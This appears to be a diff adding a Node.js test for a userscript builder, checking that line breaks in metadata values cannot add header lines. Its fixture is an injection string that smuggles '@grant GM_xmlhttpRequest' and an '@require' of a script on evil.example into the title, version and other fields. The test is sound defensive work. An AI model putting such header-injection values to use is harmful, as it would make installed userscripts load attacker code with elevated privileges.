@@ -0,0 +1,38 @@
+/**
+ * Userscript metadata values each take one header line, so line breaks in
+ * them must not add header lines such as another @grant or @require.
+ */
+
+const { describe, it, before, after } = require('node:test');
+const assert = require('node:assert/strict');
+const { bootApp } = require('./helpers');
+
+const injected = '\n// @grant GM_xmlhttpRequest\r\n// @require https://evil.example/x.js ';
+
+describe('userscript output', () => {
+    let app;
+
+    before(async () => {
+        app = await bootApp();
+    });
+
+    after(() => app.close());
+
+    const header = (code) => code.slice(0, code.indexOf('// ==/UserScript==')).split('\n').slice(1, -1);
+
+    it('keeps every metadata value on its own line', () => {
+        const { code } = app.outputFormats.buildUserscript('console.log("ran");', {
+            title: `Title${injected}`,
+            dealerId: `D100${injected}`,
+            description: `Description${injected}`,
+            version: `V2${injected}`,
+            config: { urlPatterns: ['https://dealer.example/*'] }
+        });
+
+        const keys = header(code).map(metadataLine => /^\/\/ @(\S+)/.exec(metadataLine)?.[1]);
+        assert.deepEqual(keys, ['name', 'namespace', 'version', 'description', 'match', 'run-at', 'grant']);
+        assert.doesNotMatch(code, /^\/\/ @require/m);
+        assert.match(code, /^\/\/ @grant\s+none$/m);
+        assert.match(code, /^\/\/ @version\s+2 \/\/ @grant GM_xmlhttpRequest/m);
+    });
+});